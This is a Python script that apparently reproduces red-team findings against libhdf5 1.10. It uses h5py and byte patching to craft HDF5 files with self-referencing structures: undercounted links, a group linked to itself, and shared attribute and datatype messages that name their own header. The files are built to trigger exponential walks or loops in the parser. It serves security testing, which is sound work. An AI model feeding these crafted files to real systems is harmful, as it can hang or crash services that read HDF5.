"""HDF5 files whose structures name themselves, which libhdf5 1.10 follows without a
check (red team s33 HG9, HG11), made with h5py (libver earliest, version 1 headers, no
checksums) and patched.

Usage: self_references.py KIND OUT

KIND is one of
  relinked     groups nested 15 deep, each linked twice (`a`, `b`) from the one above,
               each header's link count patched from 2 back to 1 (every walk that
               follows links reads the deepest 2^15 times);
  self-link    a group /g with a hard link `up` to itself, its link count patched to 1;
  shared-attribute
               the attribute message of /x made a shared message (flag 2, version 2,
               type 2) that names /x's own header;
  shared-type  a committed compound type T and `T v(1)`; v's shared datatype message made
               to name v's own header.
"""
import struct
import sys

import h5py
import numpy as np

kind, out = sys.argv[1], sys.argv[2]


def messages(data, header):
    """(type, length, flags, position) of each message of the version 1 header."""
    assert data[header] == 1, header
    size = struct.unpack_from("<I", data, header + 8)[0]
    at, found = header + 16, []
    while at < header + 16 + size:
        kind_of, length, flags = struct.unpack_from("<HHB", data, at)
        found.append((kind_of, length, flags, at))
        at += 8 + length
    return found


with h5py.File(out, "w", libver="earliest") as f:
    if kind == "relinked":
        headers, above = [], f
        for _ in range(15):
            group = above.create_group("a")
            above["b"] = group
            headers.append(h5py.h5o.get_info(group.id).addr)
            above = group
    elif kind == "self-link":
        group = f.create_group("g")
        group["up"] = group
        headers = [h5py.h5o.get_info(group.id).addr]
    elif kind == "shared-attribute":
        x = f.create_dataset("x", data=np.arange(3, dtype="i4"))
        x.attrs["a"] = np.int32(1)
        headers = [h5py.h5o.get_info(x.id).addr]
    elif kind == "shared-type":
        f["T"] = np.dtype([("a", "i4"), ("b", "f8")])
        v = f.create_dataset("v", shape=(1,), dtype=f["T"])
        headers = [h5py.h5o.get_info(v.id).addr]
    else:
        sys.exit(f"unknown kind {kind}")
data = bytearray(open(out, "rb").read())
if kind in ("relinked", "self-link"):
    for header in headers:
        assert struct.unpack_from("<I", data, header + 4)[0] == 2, header
        struct.pack_into("<I", data, header + 4, 1)
elif kind == "shared-attribute":
    header = headers[0]
    kind_of, _, flags, at = next(m for m in messages(data, header) if m[0] == 0x0C)
    data[at + 4] = flags | 0x02
    data[at + 8:at + 10] = bytes([2, 2])
    struct.pack_into("<Q", data, at + 10, header)
else:
    header = headers[0]
    _, _, flags, at = next(m for m in messages(data, header) if m[0] == 0x03)
    assert flags & 2 and data[at + 8] in (2, 3), "the datatype message is not shared"
    struct.pack_into("<Q", data, at + 10, header)
open(out, "wb").write(bytes(data))
